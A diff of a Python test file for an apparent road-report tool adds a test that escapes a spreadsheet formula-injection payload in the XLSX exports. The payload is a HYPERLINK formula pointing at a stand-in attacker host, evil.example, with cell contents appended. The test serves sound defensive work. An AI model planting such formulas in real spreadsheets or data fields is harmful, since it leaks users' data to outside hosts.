@@ -10,11 +10,12 @@ from typing import Any
 
 import pytest
 from pypdf import PdfReader
-from sqlalchemy import delete, insert, select, update
+from sqlalchemy import delete, insert, select, text, update
 
 from roadwatch.cli import main
 from roadwatch.monthly import pack, render
 from roadwatch.store import models
+from roadwatch.web.spreadsheet import xlsx_row
 from tests.support.ranking import add_report
 
 CST = dt.timezone(dt.timedelta(hours=8))
@@ -211,7 +212,7 @@ def test_pdf_xlsx_publish_twice_and_tampering(
     assert "按时结案率" in text
     from openpyxl import load_workbook
 
-    wb = load_workbook(io.BytesIO(render.xlsx(content)))
+    wb = load_workbook(io.BytesIO(render.xlsx(content, cells=xlsx_row)))
     sheet = wb["2026-11"]
     city = [r for r in sheet.iter_rows(values_only=True) if r[0] == "全市"][0]
     assert city[1:4] == (5, 3, 2)
@@ -265,3 +266,38 @@ def test_pack_page_exports_and_publishing_on_the_web(
     assert xlsx.status_code == 200 and xlsx.data.startswith(b"PK")
     assert staff.get("/api/reviews/2026-13").status_code == 404
     assert staff.application.test_client().get("/api/reviews/2026-11").status_code == 401
+
+
+def test_formula_injection_in_segment_names_is_neutralised_in_the_pack_xlsx(
+    runtime: Any, golden: dict[str, str], login_as: Any, tmp_path: Any, runner: Any
+) -> None:
+    """Road names come from OSM and the city's files: the pack's XLSX wrote the best and
+    worst segments' names with openpyxl's guess, so `=HYPERLINK(…)` became a formula cell
+    (docs/security.md: every XLSX goes through roadwatch/web/spreadsheet.py). Now the web
+    download and the CLI's file write it as the text `'=HYPERLINK(…)`."""
+    from openpyxl import load_workbook
+
+    payload = '=HYPERLINK("http://evil.example/?"&A1,"查看")'
+    rename = text("UPDATE segments SET name = :n WHERE id = :id")
+    with runtime.engine.begin() as conn:
+        old = conn.execute(text("SELECT name FROM segments WHERE id = :id"), {"id": golden["a1"]})
+        name = old.scalar_one()
+        conn.execute(rename, {"n": payload, "id": golden["a1"]})
+    try:
+        res = login_as("admin").get("/api/reviews/2026-11.xlsx")
+        assert res.status_code == 200
+        out = tmp_path / "pack.xlsx"
+        db = runtime.settings.database_url
+        r = runner.invoke(
+            main,
+            ["review", "--month", "2026-11", "--xlsx", str(out)],
+            env={"ROADWATCH_DATABASE_URL": db},
+        )
+        assert r.exit_code == 0, r.output
+        for data in (res.data, out.read_bytes()):
+            cells = [c for ws in load_workbook(io.BytesIO(data)) for row in ws for c in row]
+            assert all(c.data_type != "f" for c in cells), "a formula cell in the pack"
+            assert "'" + payload in [c.value for c in cells]
+    finally:
+        with runtime.engine.begin() as conn:
+            conn.execute(rename, {"n": name, "id": golden["a1"]})
